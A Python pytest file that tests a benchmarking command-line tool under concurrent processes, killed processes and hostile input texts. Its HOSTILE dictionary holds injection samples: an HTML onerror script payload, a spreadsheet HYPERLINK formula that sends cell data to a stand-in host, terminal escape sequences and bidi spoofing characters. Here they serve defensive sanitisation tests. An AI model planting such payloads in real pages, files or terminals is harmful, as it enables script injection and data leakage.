"""Several processes on one folder, and hostile texts: the results are as without them."""

import json
from pathlib import Path

import pytest

from tests.faults.campaign import WHOLE, Job, Tally
from tests.faults.commands import AGAIN, RUN, fresh, read_outcome, write_data

pytestmark = pytest.mark.faults

HOSTILE = {
    "NUL": "a\0b",
    "half a surrogate pair": "\ud800 half \udfff",
    "bidi": "\u202egnp.exe\u2066 \u200f",
    "1 MB": "word " * 200_000,
    "HTML": "</script><img src=x onerror=alert(1)><!--",
    "formula": '=HYPERLINK("http://x.y/?"&A1)',
    "Markdown": "![x](http://x.y/z.png) | `a` **b** <b>",
    "nothing": "",
    "spaces": " \u3000\t\r\n",
    "terminal": "\x1b]0;title\x07\x1b[2J",
    "combining": "e" + "\u0301" * 5000,
    "lines": "a\u2028b\x85c\x0bd\re",
}


NO_CACHE = (*RUN.words, "--no-cache")


@pytest.mark.parametrize("processes", [2, 3, 4] if WHOLE else [3])
@pytest.mark.parametrize(
    "words", [RUN.words, AGAIN.words, NO_CACHE], ids=["run", "force", "no-cache"]
)
def test_several_processes_on_one_folder_leave_what_one_leaves(
    tmp_path, forks, prepared, words, processes
):
    tally = Tally("2 to 4 `bench run` on one folder at once")
    start, _, _, wanted = prepared(RUN)
    for n in range(2 if WHOLE else 1):
        folder = fresh(tmp_path / "crowd", start)
        ends = forks.run_together(*[Job(folder, words)] * processes)
        runs = sum(end.output.count("done  hashing") for end in ends)
        once = runs == 1 or words == AGAIN.words  # one that begins later is asked to run it again
        for end in ends:
            tally.add_repeated(end, once and read_outcome(folder) == wanted, f"time {n}: {runs}")
    tally.check()


def test_a_process_that_is_killed_takes_nothing_from_the_others(tmp_path, forks, prepared):
    tally = Tally("one of 3 `bench run` on one folder is killed")
    start, _, operations, wanted = prepared(RUN)
    for n in range(1, operations) if WHOLE else (6, 15):
        folder = fresh(tmp_path / "crowd", start)
        others = [Job(folder, RUN.words)] * 2
        _, *ends = forks.run_together(Job(folder, RUN.words, die_at=n), *others)
        found = read_outcome(folder)
        kept = {name: found.get(name) for name in wanted}
        for end in ends:
            tally.add_repeated(end, kept == wanted, f"operation {n}")
    tally.check()


def test_hostile_texts_go_through_run_report_and_clusters(tmp_path, forks):
    tally = Tally("hostile texts go through run, report and clusters")
    pairs = [text for hostile in HOSTILE.values() for text in (hostile, f"plain {hostile}")]
    folder = write_data(tmp_path / "folder", pairs)
    lines = folder / "texts.jsonl"
    lines.write_text("".join(json.dumps({"text": text}) + "\n" for text in pairs))
    commands = [
        RUN.words,
        (*RUN.words, "--json", "--force"),
        ("report", "--task", "stsb"),
        (
            "clusters",
            "--texts",
            "texts.jsonl",
            "-m",
            "hashing",
            "--k",
            "2",
            "-i",
            "=1 <b> | \x1b[2J",
        ),
    ]
    for command in commands:
        end = forks.run(folder, *command)
        good = "equal" if end.code == 0 else "reported"
        tally.add("crashed" if end.crashed else good, f"{command}: {end.output}")
        assert "\x1b]0;" not in end.output
    check_written(folder)
    tally.check()


def check_written(folder: Path) -> None:
    """Check that no file holds a formula, a tag or half a surrogate pair."""
    page = (folder / "clusters/texts/clusters.md").read_text(encoding="utf-8")
    assert "<img" not in page.replace("\\<img", "")
    table = (folder / "clusters/texts/texts.csv").read_text(encoding="utf-8")
    assert "\n=HYPERLINK" not in table.replace('"', "")
